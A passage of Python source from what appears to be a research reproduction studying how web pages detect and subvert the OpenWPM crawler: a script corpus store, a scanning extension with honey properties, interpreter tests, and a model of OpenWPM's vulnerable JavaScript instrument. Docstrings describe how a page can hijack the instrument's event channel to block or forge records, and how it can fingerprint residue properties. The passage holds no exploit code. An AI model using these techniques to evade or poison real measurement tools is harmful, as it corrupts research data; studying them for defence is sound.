    def hashes(self, live_only: bool = True) -> List[str]:
        sql = "SELECT hash FROM scripts"
        if live_only:
            sql += " WHERE refcount > 0"
        with self._lock:
            rows = self._conn.execute(sql + " ORDER BY hash").fetchall()
        return [row["hash"] for row in rows]

    def precompile(self, digests: Optional[List[str]] = None) -> int:
        """Warm the engine's process-wide compiled-AST cache.

        Parses (and, when ``REPRO_JS_COMPILE`` is on, closure-compiles)
        each stored body so re-executions — a resumed crawl, a paired
        re-visit, Sec. 5 PoC replays — skip straight to the cached
        program. The corpus and the engine cache share the same sha256
        key (:func:`script_hash` ==
        :func:`repro.jsengine.interpreter.source_digest`), so one entry
        serves every occurrence. Scripts that fail to parse are skipped
        (they fail identically at execution time). Returns the number
        of scripts warmed.
        """
        from repro.jsengine.interpreter import warm_compile_cache

        if digests is None:
            digests = self.hashes(live_only=True)
        warmed = 0
        for digest in digests:
            try:
                warm_compile_cache(self.source(digest))
            except MissingScriptError:
                continue
            except Exception:
                continue
            warmed += 1
        return warmed

    def export_analysis_cache(self) -> List[Tuple[str, str, int, str]]:
        """Every memoized static-analysis row, for archival/seeding."""
        with self._lock:
            rows = self._conn.execute(
                "SELECT hash, pattern_version, preprocess, matched_json "
                "FROM analysis_cache "
                "ORDER BY hash, pattern_version, preprocess").fetchall()
        return [(row["hash"], row["pattern_version"],
                 int(row["preprocess"]), row["matched_json"])
                for row in rows]

    def import_analysis_cache(
            self, rows: List[Tuple[str, str, int, str]]) -> int:
        """Seed the memo table from exported rows (INSERT OR IGNORE).

        Rows are keyed by (hash, pattern-set version, preprocess), so
        entries from an older pattern set simply never match a lookup
        — importing is always semantics-free. Returns rows added.
        """
        if not rows:
            return 0
        with self._lock:
            before = int(self._conn.execute(
                "SELECT COUNT(*) AS n FROM analysis_cache"
            ).fetchone()["n"])
            self._conn.executemany(
                "INSERT OR IGNORE INTO analysis_cache "
                "(hash, pattern_version, preprocess, matched_json) "
                "VALUES (?, ?, ?, ?)", rows)
            after = int(self._conn.execute(
                "SELECT COUNT(*) AS n FROM analysis_cache"
            ).fetchone()["n"])
            self._conn.commit()
        return after - before

    # -- integrity -----------------------------------------------------
    def verify(self) -> Dict[str, object]:
        """Re-hash every stored blob against its key; find orphans.

        The content address is the only line of defense between a
        flipped bit on disk and a silently wrong replay/classification,
        so the check is exhaustive: every body is decompressed and
        re-hashed, every occurrence/staged/analysis row must reference
        a stored body, and refcounts must equal live occurrence counts.
        """
        corrupt: List[Dict[str, str]] = []
        with self._lock:
            rows = self._conn.execute(
                "SELECT hash, body, raw_bytes FROM scripts "
                "ORDER BY hash").fetchall()
            checked = 0
            for row in rows:
                checked += 1
                try:
                    raw = zlib.decompress(row["body"])
                except zlib.error as exc:
                    corrupt.append({"hash": row["hash"],
                                    "error": f"undecompressible: {exc}"})
                    continue
                digest = hashlib.sha256(raw).hexdigest()
                if digest != row["hash"]:
                    corrupt.append({"hash": row["hash"],
                                    "error": f"content hashes to "
                                             f"{digest}"})
                elif len(raw) != int(row["raw_bytes"]):
                    corrupt.append({"hash": row["hash"],
                                    "error": f"raw size {len(raw)} != "
                                             f"recorded "
                                             f"{row['raw_bytes']}"})

            def _orphans(table: str) -> List[str]:
                return [r["hash"] for r in self._conn.execute(
                    f"SELECT DISTINCT hash FROM {table} "  # noqa: S608
                    "WHERE hash NOT IN (SELECT hash FROM scripts) "
                    "ORDER BY hash")]

            orphaned_occurrences = _orphans("occurrences")
            orphaned_staged = _orphans("staged_occurrences")
            orphaned_analysis = _orphans("analysis_cache")
            refcount_drift = [
                {"hash": r["hash"], "refcount": int(r["refcount"]),
                 "occurrences": int(r["n"])}
                for r in self._conn.execute(
                    "SELECT s.hash AS hash, s.refcount AS refcount, "
                    "COUNT(o.hash) AS n FROM scripts s "
                    "LEFT JOIN occurrences o ON o.hash = s.hash "
                    "GROUP BY s.hash HAVING s.refcount != COUNT(o.hash) "
                    "ORDER BY s.hash")]
        return {
            "path": self.path,
            "bodies_checked": checked,
            "corrupt": corrupt,
            "orphaned_occurrences": orphaned_occurrences,
            "orphaned_staged": orphaned_staged,
            "orphaned_analysis": orphaned_analysis,
            "refcount_drift": refcount_drift,
            "ok": not (corrupt or orphaned_occurrences
                       or orphaned_staged or orphaned_analysis
                       or refcount_drift),
        }

    def total_stored_bytes(self) -> int:
        """Compressed bytes across *all* stored bodies (any refcount)."""
        with self._lock:
            return int(self._conn.execute(
                "SELECT COALESCE(SUM(stored_bytes), 0) AS n "
                "FROM scripts").fetchone()["n"])

    def total_raw_bytes(self) -> int:
        """Uncompressed bytes across all stored bodies."""
        with self._lock:
            return int(self._conn.execute(
                "SELECT COALESCE(SUM(raw_bytes), 0) AS n "
                "FROM scripts").fetchone()["n"])

    def stats(self) -> Dict[str, float]:
        """Dedup / compression / cache effectiveness, one dict."""
        with self._lock:
            occurrences = int(self._conn.execute(
                "SELECT COUNT(*) AS n FROM occurrences").fetchone()["n"])
            live = self._conn.execute(
                "SELECT COUNT(*) AS n, "
                "COALESCE(SUM(raw_bytes), 0) AS raw, "
                "COALESCE(SUM(stored_bytes), 0) AS stored "
                "FROM scripts WHERE refcount > 0").fetchone()
            total_bodies = int(self._conn.execute(
                "SELECT COUNT(*) AS n FROM scripts").fetchone()["n"])
            raw_total = int(self._conn.execute(
                "SELECT COALESCE(SUM(s.raw_bytes), 0) AS n "
                "FROM occurrences o JOIN scripts s ON s.hash = o.hash"
            ).fetchone()["n"])
            cache_entries = int(self._conn.execute(
                "SELECT COUNT(*) AS n FROM analysis_cache").fetchone()["n"])
        unique = int(live["n"])
        lookups = self.cache_hits + self.cache_misses
        return {
            "unique_scripts": unique,
            "stored_bodies": total_bodies,
            "occurrences": occurrences,
            "dedup_ratio": occurrences / unique if unique else 0.0,
            "raw_bytes": raw_total,
            "unique_raw_bytes": int(live["raw"]),
            "corpus_bytes": int(live["stored"]),
            "cache_enabled": self.cache_enabled,
            "cache_entries": cache_entries,
            "cache_hits": self.cache_hits,
            "cache_misses": self.cache_misses,
            "cache_hit_rate": self.cache_hits / lookups if lookups
            else 0.0,
        }

    def clear(self) -> None:
        with self._lock:
            for table in ("scripts", "occurrences",
                          "staged_occurrences", "analysis_cache"):
                self._conn.execute(f"DELETE FROM {table}")  # noqa: S608
            self._memo.clear()
            self.cache_hits = 0
            self.cache_misses = 0
            self._conn.commit()

    def close(self) -> None:
        with self._lock:
            self._conn.commit()
            self._conn.close()

"""``repro.serve`` — the production read path over crawl databases.

Three layers (see DESIGN.md):

* :mod:`repro.serve.rollups` — incremental aggregation into
  read-optimized ``rollups_*`` tables, maintained in lock-step with
  every raw-table mutation (including retractions) plus cold backfill
  (``build``) and differential verification (``verify``);
* :mod:`repro.serve.aggregates` — canonical JSON payloads, each with a
  batch twin recomputed from the raw tables so served answers can be
  pinned byte-for-byte against the batch pipeline;
* :mod:`repro.serve.api` / :mod:`repro.serve.cache` — the threaded
  HTTP server over read-only WAL snapshots, fronted by an LRU/TTL
  response cache invalidated by rollup generation counters.
"""

from repro.serve.aggregates import (
    AGGREGATE_BUILDERS,
    database_section,
    drop_reasons_section,
    encode_payload,
)
from repro.serve.api import (
    ResultServer,
    ServeError,
    etag_for,
    generation_header,
    json_get,
)
from repro.serve.cache import CachedResponse, ResponseCache
from repro.serve.fanout import (
    FANOUT_BUILDERS,
    fanout_state,
    vector_generation,
)
from repro.serve.rollups import (
    ROLLUP_SCHEMA_VERSION,
    ROLLUP_TABLES,
    RollupMaintainer,
    VisitDelta,
    batch_state,
    build,
    generation,
    rollup_state,
    rollups_present,
    rollups_state,
    verify,
)

__all__ = [
    "AGGREGATE_BUILDERS", "CachedResponse", "FANOUT_BUILDERS",
    "ResponseCache", "ResultServer", "RollupMaintainer",
    "ROLLUP_SCHEMA_VERSION", "ROLLUP_TABLES", "ServeError",
    "VisitDelta", "batch_state", "build", "database_section",
    "drop_reasons_section", "encode_payload", "etag_for",
    "fanout_state", "generation", "generation_header", "json_get",
    "rollup_state", "rollups_present", "rollups_state",
    "vector_generation", "verify",
]

"""Dynamic analysis: the scanning crawl client (paper Sec. 4.1).

Extends the OpenWPM extension with the paper's two additions:

* **honey properties** — randomly named accessor properties planted on
  ``navigator`` and ``window``; only a script that *iterates* properties
  touches them, which separates fingerprinting sweeps from targeted
  ``navigator.webdriver`` probes (the 'inconclusive' class);
* **residue monitors** — recording accessors on the OpenWPM-specific
  window properties (``getInstrumentJS``/``jsInstruments``/
  ``instrumentFingerprintingApis``), so scripts probing for OpenWPM are
  observed even when the probed property does not exist.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Dict, List, Optional, Set, Tuple

from repro.browser.extension import ExtensionContext
from repro.jsobject.descriptors import PropertyDescriptor
from repro.jsobject.functions import NativeFunction
from repro.jsobject.values import UNDEFINED
from repro.openwpm.config import BrowserParams
from repro.openwpm.extension import OpenWPMExtension

#: OpenWPM instrument residue across versions (Sec. 3.2).
RESIDUE_PROPERTIES = ("getInstrumentJS", "jsInstruments",
                      "instrumentFingerprintingApis")

HONEY_PROPERTY_COUNT = 6


@dataclass
class HoneyAccess:
    """One access to a honey or residue property."""

    property_name: str
    script_url: str
    kind: str  # 'honey' | 'residue'


class ScanExtension(OpenWPMExtension):
    """OpenWPM extension + honey properties + residue monitors."""

    name = "openwpm-scan"

    def __init__(self, params: Optional[BrowserParams] = None,
                 storage: Any = None) -> None:
        super().__init__(params or BrowserParams(save_content="all"),
                         storage=storage)
        self.honey_accesses: List[HoneyAccess] = []
        self._honey_names: List[str] = []

    # ------------------------------------------------------------------
    def on_window_created(self, window: Any) -> None:
        super().on_window_created(window)
        self._plant_honey(window)
        self._monitor_residue(window)

    def on_frame_created(self, window: Any, parent: Any) -> None:
        super().on_frame_created(window, parent)
        self._plant_honey(window)
        self._monitor_residue(window)

    # ------------------------------------------------------------------
    def _script_url(self, window: Any) -> str:
        for frame in reversed(window.interp.call_stack):
            if not frame.script_url.startswith("moz-extension://"):
                return frame.script_url
        return ""

    def _plant_honey(self, window: Any) -> None:
        rng = window.browser.rng
        navigator = window.window_object.get("navigator", window.interp)
        for index in range(HONEY_PROPERTY_COUNT):
            name = "h" + "".join(
                rng.choice("abcdefghijklmnopqrstuvwxyz0123456789")
                for _ in range(12))
            self._honey_names.append(name)
            target = navigator if index % 2 == 0 else window.window_object
            self._install_recorder(window, target, name, kind="honey",
                                   value=f"honey-{index}")

    def _monitor_residue(self, window: Any) -> None:
        for name in RESIDUE_PROPERTIES:
            existing = window.window_object.get_own_descriptor(name)
            value = existing.value if existing is not None else UNDEFINED
            self._install_recorder(window, window.window_object, name,
                                   kind="residue", value=value)

    def _install_recorder(self, window: Any, target: Any, name: str,
                          kind: str, value: Any) -> None:
        def getter(interp, this, args):
            self.honey_accesses.append(HoneyAccess(
                property_name=name,
                script_url=self._script_url(window),
                kind=kind))
            return value

        get_fn = NativeFunction(getter, name=f"get {name}",
                                proto=window.realm.function_prototype,
                                masquerade_name=name)
        target.properties[name] = PropertyDescriptor.accessor(
            get=get_fn, enumerable=(kind == "honey"))

    # ------------------------------------------------------------------
    def collected_scripts(self) -> List[Tuple[str, str]]:
        """(script_url, source) of every saved javascript body."""
        if self.http_instrument is None:
            return []
        return [(script_url, source)
                for script_url, content_type, source
                in self.http_instrument.saved_bodies
                if "javascript" in content_type]

    def script_refs(self, batch: Any) -> List[Tuple[str, str]]:
        """(script_url, sha256) pairs, bodies staged into *batch*.

        *batch* is a :class:`repro.corpus.SiteBatch`; the returned
        refs are the content addresses evidence carries instead of
        raw sources.
        """
        return [(script_url, batch.add(script_url, source))
                for script_url, source in self.collected_scripts()]

    # ------------------------------------------------------------------
    def residue_accesses(self) -> List[HoneyAccess]:
        return [a for a in self.honey_accesses if a.kind == "residue"]

    def honey_hits_by_script(self) -> Dict[str, Set[str]]:
        """script_url -> set of honey property names it touched."""
        out: Dict[str, Set[str]] = {}
        for access in self.honey_accesses:
            if access.kind == "honey":
                out.setdefault(access.script_url,
                               set()).add(access.property_name)
        return out

    def clear_records(self) -> None:
        super().clear_records()
        self.honey_accesses.clear()

"""Terminal-friendly charts and tables."""

from __future__ import annotations

from typing import Iterable, List, Mapping, Sequence

_BLOCK = "#"


def bar_chart(series: Mapping[str, float], width: int = 40,
              fmt: str = "{:.0f}") -> List[str]:
    """Render a horizontal bar chart, one line per labelled value."""
    if not series:
        return []
    peak = max(series.values()) or 1.0
    label_width = max(len(str(label)) for label in series)
    lines = []
    for label, value in series.items():
        bar = _BLOCK * max(0, round(value / peak * width))
        lines.append(f"{str(label):<{label_width}}  {bar} "
                     f"{fmt.format(value)}")
    return lines


def grouped_bar_chart(groups: Mapping[str, Mapping[str, float]],
                      width: int = 30,
                      fmt: str = "{:.0f}") -> List[str]:
    """Render grouped bars (e.g. front vs front+sub per rank bucket)."""
    peak = max((value for group in groups.values()
                for value in group.values()), default=1.0) or 1.0
    label_width = max((len(str(g)) for g in groups), default=0)
    series_names = sorted({name for group in groups.values()
                           for name in group})
    name_width = max((len(n) for n in series_names), default=0)
    lines = []
    for group_label, group in groups.items():
        lines.append(f"{str(group_label):<{label_width}}")
        for name in series_names:
            value = group.get(name, 0.0)
            bar = _BLOCK * max(0, round(value / peak * width))
            lines.append(f"  {name:<{name_width}}  {bar} "
                         f"{fmt.format(value)}")
    return lines


def render_table(headers: Sequence[str],
                 rows: Iterable[Sequence[object]]) -> List[str]:
    """Render an aligned text table."""
    materialised = [[str(cell) for cell in row] for row in rows]
    widths = [len(h) for h in headers]
    for row in materialised:
        for index, cell in enumerate(row):
            widths[index] = max(widths[index], len(cell))
    def fmt_row(cells: Sequence[str]) -> str:
        return "  ".join(cell.ljust(width)
                         for cell, width in zip(cells, widths)).rstrip()
    lines = [fmt_row(headers),
             fmt_row(["-" * width for width in widths])]
    lines.extend(fmt_row(row) for row in materialised)
    return lines


def series_to_csv(path: str, headers: Sequence[str],
                  rows: Iterable[Sequence[object]]) -> int:
    """Write a data series to CSV; returns the row count."""
    import csv

    count = 0
    with open(path, "w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(list(headers))
        for row in rows:
            writer.writerow(list(row))
            count += 1
    return count

"""Unit tests for interpreter semantics."""

import math

import pytest

from repro.jsengine.interpreter import ExecutionBudgetExceeded, Interpreter
from repro.jsobject import NULL, UNDEFINED, JSArray, JSObject
from repro.jsobject.errors import JSError


class TestArithmetic:
    def test_basic_math(self, run):
        assert run("1 + 2 * 3") == 7.0

    def test_string_concatenation_wins(self, run):
        assert run("1 + '2'") == "12"
        assert run("'a' + undefined") == "aundefined"

    def test_subtraction_coerces(self, run):
        assert run("'10' - 3") == 7.0

    def test_division_by_zero(self, run):
        assert run("1 / 0") == math.inf
        assert run("-1 / 0") == -math.inf
        assert math.isnan(run("0 / 0"))

    def test_modulo(self, run):
        assert run("7 % 3") == 1.0
        assert run("-7 % 3") == -1.0  # JS sign-of-dividend

    def test_exponent(self, run):
        assert run("2 ** 10") == 1024.0

    def test_bitwise(self, run):
        assert run("5 & 3") == 1.0
        assert run("5 | 3") == 7.0
        assert run("5 ^ 3") == 6.0
        assert run("1 << 4") == 16.0
        assert run("-8 >> 1") == -4.0
        assert run("-1 >>> 28") == 15.0

    def test_comparisons(self, run):
        assert run("2 > 1") is True
        assert run("'b' > 'a'") is True
        assert run("'10' < '9'") is True  # string comparison
        assert run("10 < 9") is False

    def test_nan_comparisons_false(self, run):
        assert run("(0/0) < 1") is False
        assert run("(0/0) >= 1") is False


class TestVariablesAndScope:
    def test_var_declaration(self, run):
        assert run("var x = 5; x") == 5.0

    def test_const_reassignment_throws(self, run):
        with pytest.raises(JSError, match="const"):
            run("const c = 1; c = 2;")

    def test_block_scoping_of_blocks(self, run):
        assert run("var x = 1; { var x = 2; } x") == 2.0

    def test_undeclared_read_throws_reference_error(self, run):
        with pytest.raises(JSError, match="not defined"):
            run("missingVariable")

    def test_typeof_undeclared_does_not_throw(self, run):
        assert run("typeof missingVariable") == "undefined"

    def test_implicit_global_assignment(self, interp):
        interp.run("function f() { leaked = 42; } f();")
        assert interp.global_object.get("leaked") == 42.0

    def test_closures_capture_environment(self, run):
        assert run("""
            function counter() {
                var n = 0;
                return function () { n = n + 1; return n; };
            }
            var c = counter();
            c(); c(); c()
        """) == 3.0

    def test_closures_are_independent(self, run):
        assert run("""
            function make(start) { return function () { return start; }; }
            make(1)() + make(2)()
        """) == 3.0

    def test_hoisted_function_callable_before_definition(self, run):
        assert run("var r = early(); function early() { return 9; } r") \
            == 9.0


class TestControlFlow:
    def test_while_with_break(self, run):
        assert run("""
            var i = 0;
            while (true) { i++; if (i >= 4) { break; } }
            i
        """) == 4.0

    def test_continue_skips(self, run):
        assert run("""
            var total = 0;
            for (var i = 0; i < 5; i++) {
                if (i % 2 === 0) { continue; }
                total += i;
            }
            total
        """) == 4.0

    def test_do_while_runs_once(self, run):
        assert run("var n = 0; do { n++; } while (false); n") == 1.0

    def test_for_in_iterates_keys(self, run):
        assert run("""
            var keys = [];
            for (var k in {a: 1, b: 2}) { keys.push(k); }
            keys.join(",")
        """) == "a,b"

    def test_for_of_iterates_values(self, run):
        assert run("""
            var total = 0;
            for (var v of [1, 2, 3]) { total += v; }
            total
        """) == 6.0

    def test_ternary(self, run):
        assert run("1 > 0 ? 'yes' : 'no'") == "yes"

    def test_logical_operators_return_operands(self, run):
        assert run("'' || 'fallback'") == "fallback"
        assert run("'first' && 'second'") == "second"
        assert run("0 && neverEvaluated") == 0.0


class TestFunctionsAndThis:
    def test_method_this_binding(self, run):
        assert run("""
            var obj = {n: 7, get: function () { return this.n; }};
            obj.get()
        """) == 7.0

    def test_plain_call_this_is_global(self, interp):
        interp.global_object.put("marker", 1.0)
        assert interp.run(
            "function f() { return this.marker; } f()") == 1.0

    def test_arrow_captures_lexical_this(self, run):
        assert run("""
            var obj = {
                n: 5,
                make: function () { return () => this.n; }
            };
            obj.make()()
        """) == 5.0

    def test_arguments_object(self, run):
        assert run("""
            function count() { return arguments.length; }
            count(1, 2, 3)
        """) == 3.0

    def test_call_apply_bind(self, run):
        assert run("""
            function who() { return this.name; }
            var a = {name: "a"}, b = {name: "b"};
            who.call(a) + who.apply(b) + who.bind(a)()
        """) == "aba"

    def test_default_missing_args_are_undefined(self, run):
        assert run("function f(a, b) { return typeof b; } f(1)") \
            == "undefined"

    def test_calling_non_function_throws(self, run):
        with pytest.raises(JSError, match="not a function"):
            run("var x = 3; x();")


class TestObjectsAndPrototypes:
    def test_constructor_and_instanceof(self, run):
        assert run("""
            function Point(x) { this.x = x; }
            var p = new Point(4);
            (p instanceof Point) && p.x === 4
        """) is True

    def test_prototype_method_shared(self, run):
        assert run("""
            function Animal(name) { this.name = name; }
            Animal.prototype.speak = function () {
                return this.name + " speaks";
            };
            new Animal("rex").speak()
        """) == "rex speaks"

    def test_constructor_returning_object_overrides(self, run):
        assert run("""
            function F() { return {custom: true}; }
            new F().custom
        """) is True

    def test_delete_member(self, run):
        assert run("var o = {a: 1}; delete o.a; typeof o.a") == "undefined"

    def test_in_operator(self, run):
        assert run("'a' in {a: 1}") is True
        assert run("'b' in {a: 1}") is False

    def test_member_access_on_undefined_throws(self, run):
        with pytest.raises(JSError, match="undefined"):
            run("var u; u.anything")


class TestExceptions:
    def test_try_catch_receives_thrown_value(self, run):
        assert run("""
            var got = null;
            try { throw "payload"; } catch (e) { got = e; }
            got
        """) == "payload"

    def test_finally_always_runs(self, run):
        assert run("""
            var log = [];
            try { log.push("t"); throw new Error("x"); }
            catch (e) { log.push("c"); }
            finally { log.push("f"); }
            log.join("")
        """) == "tcf"

    def test_error_has_name_message_stack(self, run):
        assert run("""
            var e = new TypeError("bad");
            e.name + ":" + e.message + ":" + (e.stack.length > 0)
        """) == "TypeError:bad:true"

    def test_stack_lists_frames_innermost_first(self, interp):
        stack = interp.run("""
            function deep() { throw new Error("boom"); }
            function mid() { deep(); }
            var s = "";
            try { mid(); } catch (e) { s = e.stack; }
            s
        """, "app.js")
        lines = stack.split("\n")
        assert lines[0].startswith("deep@app.js")
        assert lines[1].startswith("mid@app.js")

    def test_uncaught_throw_propagates_to_host(self, run):
        with pytest.raises(JSError, match="boom"):
            run("throw new Error('boom');")


class TestBudgetAndSafety:
    def test_infinite_loop_hits_budget(self, realm):
        interp = Interpreter(realm, budget=10_000)
        with pytest.raises(ExecutionBudgetExceeded):
            interp.run("while (true) {}")

    def test_deep_recursion_raises_js_error(self, run):
        with pytest.raises(JSError, match="recursion"):
            run("function r() { return r(); } r();")

    def test_syntax_error_becomes_js_error(self, run):
        with pytest.raises(JSError, match="SyntaxError"):
            run("var = 1;")


class TestCrossRealm:
    def test_function_executes_in_home_realm(self):
        import random

        from repro.jsengine.builtins import Realm

        realm_a = Realm(random.Random(1))
        realm_b = Realm(random.Random(2))
        interp_a = Interpreter(realm_a)
        interp_b = Interpreter(realm_b)
        realm_a.global_object.put("tag", "A")
        realm_b.global_object.put("tag", "B")
        fn = interp_b.run("(function () { return tag; })")
        # Calling B's function from A's interpreter resolves B's globals.
        assert fn.call(interp_a, UNDEFINED, []) == "B"

"""OpenWPM's JavaScript call instrument (vulnerable upstream design).

How the real instrument works — and what this module reproduces:

1. At ``document_start`` the extension's content script **injects a
   <script> element** into the page carrying the instrumentation code,
   then removes the element. The injection is subject to the page's CSP
   (attackable: Sec. 5.1.2) and leaves ``window.getInstrumentJS`` behind
   (fingerprintable: Sec. 3.1.4).
2. The injected code wraps the target APIs with **script-level wrapper
   functions**, so ``toString`` on a wrapped API returns the wrapper's
   source (Listing 1) and errors raised beneath a wrapper carry
   instrumentation stack frames.
3. Wrappers report through ``document.dispatchEvent`` with a
   **randomly-named CustomEvent**, looked up dynamically at call time —
   a page that replaces ``document.dispatchEvent`` can capture the random
   ID, then block or forge records (Listing 2, Sec. 5.1/5.2).
4. Wrapping walks each target's prototype chain but defines every
   wrapper **on the first prototype**, polluting it with the ancestors'
   properties (Fig. 2).
5. New frames are instrumented via a task queued on the event loop, so
   same-tick access to a fresh iframe's APIs goes unrecorded
   (Listing 3, Sec. 5.4.1).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Dict, List, Optional, Tuple

from repro.jsengine.builtins import js_to_python
from repro.jsengine.interpreter import Scope, ScriptFunction
from repro.jsengine.parser import parse
from repro.jsobject.descriptors import PropertyDescriptor
from repro.jsobject.functions import JSFunction, NativeFunction
from repro.jsobject.objects import JSObject
from repro.jsobject.values import UNDEFINED
from repro.obs.telemetry import Telemetry, coalesce

#: URL the injected instrumentation appears under in stack traces.
INSTRUMENT_SCRIPT_URL = "moz-extension://openwpm/content.js"

#: The code injected into the page context. ``__EVENT_ID__`` is replaced
#: with the per-page random channel name.
INSTRUMENT_PAGE_SCRIPT = """
function getOriginatingScriptContext(logCallStack) {
    var stack = "";
    try { throw new Error(""); } catch (err) { stack = err.stack; }
    return {
        callStack: logCallStack ? stack : "",
        scriptUrl: __originatingScriptUrl()
    };
}
function serializeArguments(args) {
    var parts = [];
    for (var i = 0; i < args.length; i++) { parts.push("" + args[i]); }
    return parts.join(",");
}
function logCall(symbol, args, callContext, logSettings) {
    document.dispatchEvent(new CustomEvent(eventChannelId, {detail: {
        symbol: symbol,
        operation: "call",
        value: "",
        arguments: serializeArguments(args),
        callStack: callContext.callStack,
        scriptUrl: callContext.scriptUrl
    }}));
}
function logValue(symbol, value, operation, callContext, logSettings) {
    document.dispatchEvent(new CustomEvent(eventChannelId, {detail: {
        symbol: symbol,
        operation: operation,
        value: "" + value,
        arguments: "",
        callStack: callContext.callStack,
        scriptUrl: callContext.scriptUrl
    }}));
}
var logSettings = {logCallStack: true};
window.getInstrumentJS = function () { return true; };
"""

#: Residue left by the oldest instrument generation (paper Sec. 3.2):
#: v0.10.0 exposed two window properties instead of getInstrumentJS.
LEGACY_PAGE_SCRIPT_SUFFIX = """
window.jsInstruments = function () { return true; };
window.instrumentFingerprintingApis = function () { return true; };
"""

# Wrapper templates. Their source text is what Function.prototype.toString
# reveals on instrumented APIs (Listing 1 in the paper).
CALL_WRAPPER_SOURCE = """function () {
    const callContext = getOriginatingScriptContext(!!logSettings.logCallStack);
    logCall(objectName + "." + methodName, arguments, callContext, logSettings);
    return func.apply(this, arguments);
}"""

GET_WRAPPER_SOURCE = """function () {
    const callContext = getOriginatingScriptContext(!!logSettings.logCallStack);
    logValue(objectName + "." + propertyName, originalGet.call(this), "get", callContext, logSettings);
    return originalGet.call(this);
}"""

SET_WRAPPER_SOURCE = """function (newValue) {
    const callContext = getOriginatingScriptContext(!!logSettings.logCallStack);
    logValue(objectName + "." + propertyName, newValue, "set", callContext, logSettings);
    return originalSet.call(this, newValue);
}"""

METHOD_GET_WRAPPER_SOURCE = """function () {
    return func;
}"""


def _parse_function_template(source: str):
    """Parse a function-expression template once; reuse the AST node."""
    program = parse("(" + source + ")")
    return program.body[0].expression


_CALL_NODE = _parse_function_template(CALL_WRAPPER_SOURCE)
_GET_NODE = _parse_function_template(GET_WRAPPER_SOURCE)
_SET_NODE = _parse_function_template(SET_WRAPPER_SOURCE)
_METHOD_GET_NODE = _parse_function_template(METHOD_GET_WRAPPER_SOURCE)


@dataclass(frozen=True)
class TargetSpec:
    """One object whose API the instrument wraps.

    ``path`` is resolved from the window (``navigator``,
    ``CanvasRenderingContext2D.prototype``, ...). ``is_prototype`` makes
    wrapping start at the resolved object itself instead of at its first
    prototype. ``methods_only`` skips data properties (used for WebGL,
    whose ~2k numeric constants are not instrumented upstream).
    """

    path: str
    is_prototype: bool = False
    methods_only: bool = False
    exclude: Tuple[str, ...] = ()


DEFAULT_TARGETS: List[TargetSpec] = [
    TargetSpec("navigator"),
    TargetSpec("screen"),
    TargetSpec("localStorage"),
    TargetSpec("performance"),
    TargetSpec("history"),
    TargetSpec("CanvasRenderingContext2D.prototype", is_prototype=True),
    TargetSpec("WebGLRenderingContext.prototype", is_prototype=True,
               methods_only=True),
    TargetSpec("OfflineAudioContext.prototype", is_prototype=True),
]


@dataclass
class JSCallRecord:
    """One record as received by the instrument's background end."""

    symbol: str
    operation: str
    value: str
    arguments: str
    call_stack: str
    script_url: str
    document_url: str


class JSInstrument:
    """The JavaScript call instrument (content + background halves)."""

    name = "js_instrument"

    def __init__(self, storage: Any = None,
                 targets: Optional[List[TargetSpec]] = None,
                 legacy_v010: bool = False,
                 telemetry: Optional[Telemetry] = None) -> None:
        self.storage = storage
        self.targets = targets if targets is not None else DEFAULT_TARGETS
        self.legacy_v010 = legacy_v010
        self.telemetry = coalesce(telemetry)
        #: Windows where instrumentation could not be installed (CSP).
        self.failed_windows: List[Any] = []
        #: In-memory record stream (also forwarded to storage, if any).
        self.records: List[JSCallRecord] = []
        #: Per-window wrapped-property counts, for surface accounting.
        self.install_counts: Dict[int, int] = {}

    # ==================================================================
    # Installation
    # ==================================================================
    def instrument_window(self, window: Any, context: Any) -> bool:
        """Inject and wrap one window. Returns False when CSP blocks it."""
        event_id = "owpm-" + "".join(
            window.browser.rng.choice("0123456789abcdef") for _ in range(16))
        # The random channel name enters the page through the injected
        # script's scope rather than its text, so the (constant) source
        # stays parse-cacheable. Page-visible behaviour is identical:
        # wrappers still dispatch CustomEvents under the random name.
        source = INSTRUMENT_PAGE_SCRIPT
        if self.legacy_v010:
            source = source.replace(
                "window.getInstrumentJS = function () { return true; };",
                LEGACY_PAGE_SCRIPT_SUFFIX.strip())
        scope = context.run_page_script_with_scope(source,
                                                   INSTRUMENT_SCRIPT_URL)
        if scope is None:
            self.failed_windows.append(window)
            return False
        scope.declare("eventChannelId", event_id)

        # Host helper available to the injected code (hidden in its scope,
        # like the real extension's closures).
        scope.declare("__originatingScriptUrl", NativeFunction(
            lambda interp, this, args: self._originating_script_url(window),
            name="__originatingScriptUrl",
            proto=window.realm.function_prototype))

        # The content script listens for the (randomly named) events the
        # page-context wrappers dispatch.
        window.document.add_listener(
            event_id, lambda event, interp: self._on_record(window, event,
                                                            interp))

        installed = 0
        for target in self.targets:
            obj = self._resolve_path(window, target.path)
            if isinstance(obj, JSObject):
                installed += self._instrument_object(
                    window, scope, obj, target)
        self.install_counts[id(window)] = installed
        return True

    def _resolve_path(self, window: Any, path: str) -> Any:
        obj: Any = window.window_object
        for part in path.split("."):
            if not isinstance(obj, JSObject):
                return UNDEFINED
            obj = obj.get(part, window.interp)
        return obj

    def _originating_script_url(self, window: Any) -> str:
        """First stack frame outside the instrumentation itself."""
        for frame in reversed(window.interp.call_stack):
            if frame.script_url != INSTRUMENT_SCRIPT_URL:
                return frame.script_url
        return ""

    # ------------------------------------------------------------------
    def _instrument_object(self, window: Any, scope: Scope, obj: JSObject,
                           target: TargetSpec) -> int:
        """Wrap one target, reproducing the pollution bug.

        The wrappers for *every* prototype level are defined onto the
        chain's first prototype (Fig. 2): inherited API surfaces show up
        as own properties of the first prototype afterwards.
        """
        realm = window.realm
        base_protos = {realm.object_prototype, realm.function_prototype,
                       id(None)}
        if target.is_prototype:
            chain = [obj]
            walker = obj.proto
        else:
            chain = []
            walker = obj.proto
        while walker is not None and walker is not realm.object_prototype \
                and walker is not realm.function_prototype:
            chain.append(walker)
            walker = walker.proto
        if not chain:
            chain = [obj]  # plain object: wrap own properties in place
        first = chain[0]

        object_name = target.path.split(".")[0] \
            if not target.is_prototype else target.path.rsplit(".", 2)[0]
        installed = 0
        for proto in chain:
            for name, desc in list(proto.properties.items()):
                if name in target.exclude or name == "constructor":
                    continue
                if desc.meta.get("openwpm_wrapped"):
                    continue
                if target.methods_only and not desc.is_accessor \
                        and not isinstance(desc.value, JSFunction):
                    continue  # skip the ~2k WebGL constants cheaply
                wrapped = self._wrap_descriptor(
                    window, scope, object_name, name, desc,
                    methods_only=target.methods_only)
                if wrapped is None:
                    continue
